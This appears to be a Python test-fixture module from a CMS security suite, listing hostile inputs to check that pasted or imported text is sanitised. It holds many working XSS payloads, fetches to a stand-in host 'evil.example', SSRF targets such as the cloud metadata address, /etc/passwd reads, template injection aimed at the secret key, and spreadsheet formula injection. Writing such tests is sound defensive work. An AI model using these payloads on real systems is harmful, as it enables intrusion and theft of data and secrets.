"""What is pasted, imported or sent as rich text and as plain text, so that it runs or fetches something.

Ideas that are common knowledge (OWASP's lists, the HTML standard's parsing rules), written for this suite. ``@`` stands
for the program, ``~`` for an address elsewhere.
"""

from __future__ import annotations

from base64 import b64encode

from cms.tests.operations.malicious import ELSEWHERE, HIT

ADDRESS = f"http://{ELSEWHERE}/x"
PACKED = b64encode(f"<script>{HIT}</script>".encode()).decode()


def _filled(*texts: str) -> list[str]:
    return [text.replace("@", HIT).replace("~", ADDRESS).replace("%B64%", PACKED) for text in texts]


# Elements that run, or that hold others that do
ELEMENTS = _filled(
    "<script>@</script>",
    "<SCRIPT>@</SCRIPT>",
    "<script type=module>@</script>",
    "<script src='data:text/javascript,@'></script>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>@</scr</script>ipt>",
    "<script\x0c>@</script >",
    "<script/x>@</script/x>",
    "<script><!--<script>@</script>--></script>",
    "<svg><script>@</script></svg>",
    "<svg><script href='data:text/javascript,@'/></svg>",
    "<svg><a><animate attributeName=href values='javascript:@'/><text y=9>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to='@'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>@</script>'></iframe></foreignObject></svg>",
    "<math><mtext><script>@</script></mtext></math>",
    "<math href='javascript:@'>x</math>",
    "<iframe srcdoc='<script>parent.@</script>'></iframe>",
    "<iframe src='javascript:parent.@'></iframe>",
    "<iframe src='data:text/html;base64,%B64%'></iframe>",
    "<object data='data:text/html;base64,%B64%'></object>",
    "<object data='javascript:@'></object>",
    "<embed src='data:image/svg+xml;base64,%B64%'>",
    "<embed src='javascript:@'>",
    "<applet code='javascript:@'></applet>",
    "<meta http-equiv=refresh content='0;url=javascript:@'>",
    "<base href='javascript:@//'>",
    "<link rel=import href='data:text/html,<script>@</script>'>",
    "<form action='javascript:@'><button>Go</button></form>",
    "<form><button formaction='javascript:@'>Go</button></form>",
    "<isindex action='javascript:@' type=submit>",
    "<template><script>@</script></template>",
    "<portal src='javascript:@'></portal>",
    "<style>*{background:url('javascript:@')}</style>",
    "<xml><i><b>&lt;img src=1 onerror=@&gt;</b></i></xml>",
)

# Handlers
HANDLERS = _filled(
    "<img src=x onerror='@'>",
    "<img src=x:x onerror=@>",
    "<IMG SRC=x OnErRoR=@>",
    "<img/src=x/onerror=@>",
    "<img src=x\nonerror\n=\n'@'>",
    "<img src='x'onerror='@'>",
    "<img src=x onerror=&#119;indow.__hit=1>",
    "<img src=x onerror=`@`>",
    "<p onclick='@' onmouseover='@'>Words.</p>",
    "<p onfocus='@' tabindex=0 autofocus>Words.</p>",
    "<b onpointerenter='@'>Words.</b>",
    "<i style='animation:x 1s' onanimationstart='@'>Words.</i>",
    "<ul onscroll='@'><li oncopy='@'>Words.</li></ul>",
    "<a href='https://example.org/' onclick='@' ping='~'>Words.</a>",
    "<a href='https://example.org/'onmouseenter='@'>Words.</a>",
    "<a linktype='page' id='1' onclick='@'>Words.</a>",
    "<a linktype='reference' id='\"onclick=\"@' onclick='@'>[ref]</a>",
    "<a linktype='reference' id='1'><img src=x onerror='@'></a>",
    "<a href='x' linktype='page\" onmouseover=\"@' id='1'>Words.</a>",
    "<details open ontoggle='@'>Words.</details>",
    "<video><source onerror='@'></video>",
    "<video src=x onerror='@' autoplay>",
    "<audio src=x onerror='@'>",
    "<body onload='@'>Words.</body>",
    "<body onpageshow='@' onhashchange='@'>Words.</body>",
    "<svg onload='@'>",
    "<svg/onload=@>",
    "<svg><animate onbegin='@' attributeName=x dur=1s>",
    "<input autofocus onfocus='@'>",
    "<select autofocus onfocus='@'><option>x</select>",
    "<textarea autofocus onfocus='@'>x</textarea>",
    "<marquee onstart='@'>Words.</marquee>",
    "<div onbeforematch='@' hidden=until-found>Words.</div>",
    "<button popovertarget=x onclick='@'>x</button><div popover id=x onbeforetoggle='@'>y</div>",
    "<td onwheel='@'>Words.</td>",
    "<custom-element onclick='@' contenteditable>Words.</custom-element>",
)

# Addresses of links
ADDRESSES = _filled(
    "javascript:@",
    "JaVaScRiPt:@",
    "java\tscript:@",
    "java\nscript:@",
    "java\r\nscript:@",
    "\x01javascript:@",
    " javascript:@",
    "\u00a0javascript:@",
    "javascript&colon;@",
    "&#106;avascript:@",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;@",
    "&Tab;javascript:@",
    "java&NewLine;script:@",
    "javascript\u200b:@",
    "javascript://example.org/%0a@",
    "javascript:/*--></a></p>*/@",
    "data:text/html,<script>@</script>",
    "data:text/html;base64,%B64%",
    "DATA:image/svg+xml;base64,%B64%",
    "vbscript:@",
    "VBSCRIPT\t:@",
    "livescript:@",
    "mocha:@",
    "view-source:javascript:@",
    "blob:https://example.org/x",
    "filesystem:https://example.org/x",
    "file:///etc/passwd",
    "feed:javascript:@",
    "jar:https://example.org/x!/y",
    "x-javascript:@",
    'https://example.org/" onmouseover="@',
    "https://example.org/'onmouseover='@",
    "https://example.org/><script>@</script>",
    "https://example.org/`onmouseover=`@",
    '//evil.example" autofocus onfocus="@',
)
LINKS = [
    *(f'<p>See <a href="{address.replace(chr(34), "&quot;")}">the page</a>.</p>' for address in ADDRESSES),
    *(f"<a href={address.partition(' ')[0]}>the page</a>" for address in ADDRESSES[:4]),
]

# What parsers read differently, so that clean text is unclean once it is read again
PARSERS = _filled(
    "<noscript><p title='</noscript><img src=x onerror=@>'>Words.</noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=@&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=@>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=@>",
    "<select><template><style></select><img src=x onerror=@></style></template>",
    "<!--><img src=x onerror=@>-->",
    "<!--!><img src=x onerror=@>",
    "<![CDATA[<img src=x onerror=@>]]>",
    "<?xml-stylesheet href='javascript:@'?>",
    "<!DOCTYPE x [<!ENTITY y '<script>@</script>'>]>&y;",
    "<p>&lt;script&gt;@&lt;/script&gt;</p>",
    "<p>&amp;lt;script&amp;gt;@&amp;lt;/script&amp;gt;</p>",
    "<p>\x00<scr\x00ipt>@</scr\x00ipt></p>",
    "<p>\ufeff<script>@</script></p>",
    "<p><b><script>@</b></script></p>",
    "<p>\ud800<img src=x onerror=@></p>",
    "<p></p/><script/>@</p>",
    "<table><tr><td><table><caption><a></caption><img src=x onerror=@></table>",
    "<a href='https://example.org/'><a href='javascript:@'>x</a></a>",
    "<title><img src=x onerror=@></title>",
    "<textarea></p><img src=x onerror=@></textarea>",
    "<xmp></p><img src=x onerror=@></xmp>",
    "<plaintext><img src=x onerror=@>",
    "<listing>&lt;img src=x onerror=@&gt;</listing>",
    "<noembed><img src=x onerror=@></noembed>",
    '<p title="`><img src=x onerror=@>">Words.</p>',
    "<img alt='<x' title='/><img src=x onerror=@>'>",
    "+ADw-script+AD4-@+ADw-/script+AD4-",
    "\u02c2script\u02c3@\u02c2/script\u02c3 \uff1cscript\uff1e@\uff1c/script\uff1e",
    "<p data-block-key='\"><script>@</script>'>Words.</p>",
    '<p data-block-key="x" data-x=\'" data-block-key="\'><img src=x onerror=@></p>',
    "{{7*7}}{% load x %}${7*7}<%= 7*7 %>#{7*7}",
    "<b><i><sup><sub><b><i>" * 40 + "<script>@</script>",
)

# What fetches something from elsewhere, in the reader's browser or on this server
FETCHES = _filled(
    "<img src='~'>",
    "<img srcset='~ 1x, ~ 2x'>",
    "<picture><source srcset='~'><img src='~'></picture>",
    "<img src='//evil.example/x.png' loading=eager>",
    "<image src='~'>",
    "<input type=image src='~'>",
    "<video poster='~'></video>",
    "<video src='~'></video>",
    "<audio src='~' autoplay></audio>",
    "<track src='~'>",
    "<iframe src='~'></iframe>",
    "<frameset><frame src='~'></frameset>",
    "<object data='~'></object>",
    "<embed src='~'>",
    "<link rel=stylesheet href='~'>",
    "<link rel=preload as=script href='~'>",
    "<link rel=dns-prefetch href='~'>",
    "<style>@import url('~');</style>",
    "<p style='background:url(~)'>Words.</p>",
    "<p style='list-style-image:url(~)'>Words.</p>",
    "<table background='~'><tr><td background='~'>Words.</td></tr></table>",
    "<svg><image href='~'/></svg>",
    "<svg><use href='~#y'/></svg>",
    "<meta http-equiv=refresh content='0;url=~'>",
    "<base href='~'><a href='y'>x</a>",
    "<form action='~'><input name=x></form>",
    "<embed embedtype='media' url='~'/>",
    "<embed embedtype='media' url='http://169.254.169.254/latest/meta-data/'/>",
    "<embed embedtype='media' url='http://127.0.0.1:5432/'/>",
    "<embed embedtype='media' url='https://www.youtube.com/watch?v=x'/>",
    "<embed embedtype='image' id='1' format='left' alt='\"><script>@</script>'/>",
    "<embed embedtype='image' id='../../etc/passwd' format='x' alt=''/>",
    "<a linktype='document' id='1'>x</a>",
    "<a linktype='user' id='1'>x</a>",
    "<blockquote cite='~'>Words.</blockquote>",
    "<a href='file://evil.example/share'>x</a>",
    "<!--#include virtual='/etc/passwd'-->",
    "<!--[if mso]><v:imagedata src='~'/><![endif]-->",
    "<v:shape style='behavior:url(#default#VML)'><v:fill src='~'/></v:shape>",
)

# Plain texts: titles, names, alt texts, headings
TEXTS = _filled(
    "<script>@</script>",
    "</title><script>@</script>",
    "</script><script>@</script>",
    "<!--<script>@",
    '"><img src=x onerror=@>',
    "' onmouseover='@",
    '" autofocus onfocus="@',
    "]]><script>@</script>",
    "</textarea><script>@</script>",
    "</style><script>@</script>",
    "<svg onload=@>",
    "&lt;script&gt;@&lt;/script&gt;",
    "\u2028@\u2029",
    "${@}`${@}`",
    "{{constructor.constructor('@')()}}",
    "{% include '/etc/passwd' %}{{ settings.SECRET_KEY }}",
    "javascript:@",
    "\\u003cscript\\u003e@",
    "<em>@</em><mark onclick=@>",
    "%3Cscript%3E@%3C/script%3E",
)

# What spreadsheets would calculate
FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", " =1+1", "\t=1+1"]

RICH_TEXTS = [*ELEMENTS, *HANDLERS, *LINKS, *PARSERS, *FETCHES]
